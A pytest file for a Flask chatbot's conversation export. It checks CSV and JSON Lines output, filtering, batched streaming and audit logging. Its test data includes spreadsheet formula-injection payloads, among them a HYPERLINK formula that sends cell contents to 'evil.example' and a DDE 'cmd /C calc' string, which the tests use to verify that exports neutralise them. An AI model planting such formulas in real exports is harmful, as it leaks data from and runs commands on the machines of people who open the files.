"""An owner takes conversations along: as CSV that spreadsheets only show, and as JSON Lines."""

import csv
import io
import json
from typing import Any

import pytest
from cast import Owner, Visitor, csrf_of, sign_in
from flask import Flask
from flask.testing import FlaskClient
from scripted import ScriptedEngine
from sqlalchemy import event

from ragwidget.conversations import export
from ragwidget.engines.protocol import Finish, Usage
from ragwidget.extensions import db
from ragwidget.models import AuditEntry

FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
)
HIDDEN = ("Hello;=1+1;", 'Hello;"=1+1', "Hello\n@SUM(1+1)", "Hello\t-2+3")


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return sign_in(app, "alice@example.org")


def path_of(owner: Owner, kind: str, query: str = "") -> str:
    return f"/dashboard/chatbots/{owner.chatbot_id}/conversations/export.{kind}?{query}"


def rows_of(text: str) -> list[dict[str, str]]:
    """Read a table as a spreadsheet does."""
    assert text[0] == "\ufeff"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_nothing_that_a_visitor_types_is_a_formula_in_a_spreadsheet(
    client: FlaskClient, alice: Owner, victor: Visitor, engine: ScriptedEngine
) -> None:
    for formula in FORMULAS + HIDDEN:
        engine.will_say(formula)
        victor.token = None
        reply = victor.ask(
            formula.strip("\t") if formula[0] == "\t" else formula,
            visitor={"name": formula, "email": "victor@example.org"},
            page={"url": "https://alice.example/", "title": formula},
        )
        body = {"rating": "down", "comment": formula}
        victor.call("PUT", f"/messages/{reply.message_id}/feedback", json=body)

    table = client.get(path_of(alice, "csv")).text
    rows = rows_of(table)

    assert len(rows) == len(FORMULAS + HIDDEN)
    for divider in ",;\t":  # each is what some spreadsheet takes for the end of a cell
        for row in csv.reader(io.StringIO(table[1:], newline=""), delimiter=divider):
            assert [cell for cell in row if cell.startswith(tuple("=+-@\t\r＝"))] == [], divider
    assert {row["answer"] for row in rows} >= {f"'{one}" for one in FORMULAS if one[0] != "\t"}


def test_a_line_tells_all_of_a_turn(
    app: Flask, client: FlaskClient, alice: Owner, victor: Visitor, engine: ScriptedEngine
) -> None:
    engine.will_say("It, “floats”.\nYes.", Usage(7, 3), Finish("stop", "gemini-x", engine="gemini"))
    victor.ask("Does it float?", locale="de-AT", page={"url": "https://alice.example/boats"})
    retried = victor.ask("Really?").message_id
    victor.hear(victor.post(f"/messages/{retried}/retry"))

    answer = client.get(path_of(alice, "jsonl"))
    lines = [json.loads(line) for line in answer.text.splitlines()]
    rows = rows_of(client.get(path_of(alice, "csv")).text)

    assert answer.headers["Content-Disposition"].endswith('.jsonl"')
    assert [line["question"] for line in lines] == ["Does it float?", "Really?"]
    first: dict[str, Any] = lines[0]
    assert first["answer"] == "It, “floats”.\nYes."
    assert (first["model"], first["engine"], first["prompt_tokens"]) == ("gemini-x", "gemini", 7)
    assert (first["language"], first["page"]) == ("de-AT", "https://alice.example/boats")
    assert [row["answer"].replace("\r\n", "\n") for row in rows] == [
        line["answer"] for line in lines
    ]
    with app.app_context():
        noted = db.session.query(AuditEntry).filter_by(action="conversations.exported").all()
        assert sorted(note.details["kind"] for note in noted) == ["csv", "jsonl"]


def test_it_holds_what_the_filters_find_or_what_was_ticked(
    client: FlaskClient, alice: Owner, victor: Visitor, engine: ScriptedEngine
) -> None:
    ids = {}
    for question, reason in (("Bikes?", "stop"), ("Cars?", "refused"), ("Vans?", "refused")):
        engine.will_say("Well.", Finish(reason, "scripted-1", grounded=True))
        victor.token = None
        victor.ask(question)
        ids[question] = victor.conversation_id
    page = f"/dashboard/chatbots/{alice.chatbot_id}/conversations"
    form = {"csrf_token": csrf_of(client, page), "id": [ids["Bikes?"]]}

    refused = client.get(path_of(alice, "csv", "outcome=refused")).text
    ticked = client.post(f"{page}/change", data={**form, "change": "export-csv"}).text
    every = client.post(
        f"{page}/change?outcome=refused",
        data={**form, "change": "export-jsonl", "everything": "yes"},
        follow_redirects=True,
    )

    assert [row["question"] for row in rows_of(refused)] == ["Vans?", "Cars?"]
    assert [row["question"] for row in rows_of(ticked)] == ["Bikes?"]
    assert [json.loads(line)["question"] for line in every.text.splitlines()] == ["Vans?", "Cars?"]
    assert client.get(path_of(alice, "exe")).status_code == 404


def test_it_is_read_in_small_lots_and_holds_no_connection_between_them(
    app: Flask,
    client: FlaskClient,
    alice: Owner,
    victor: Visitor,
    engine: ScriptedEngine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export, "CONVERSATIONS_AT_ONCE", 2)
    monkeypatch.setattr(export, "MESSAGES_AT_ONCE", 2)
    for number in range(5):
        victor.token = None
        victor.ask(f"First {number}?")
        victor.ask(f"Second {number}?")
    lent: list[int] = []
    with app.app_context():
        pool = db.engine.pool
    event.listen(pool, "checkout", lambda *_: lent.append(1))
    event.listen(pool, "checkin", lambda *_: lent.append(-1))

    answer = client.get(path_of(alice, "jsonl"), buffered=False)
    held = []
    lines = b""
    for chunk in answer.iter_encoded():
        lines += chunk
        held.append(sum(lent))

    assert len(held) >= 10
    assert set(held) == {0}
    asked = [json.loads(line)["question"] for line in lines.decode().splitlines()]
    assert asked == [f"{nth} {n}?" for n in (4, 3, 2, 1, 0) for nth in ("First", "Second")]
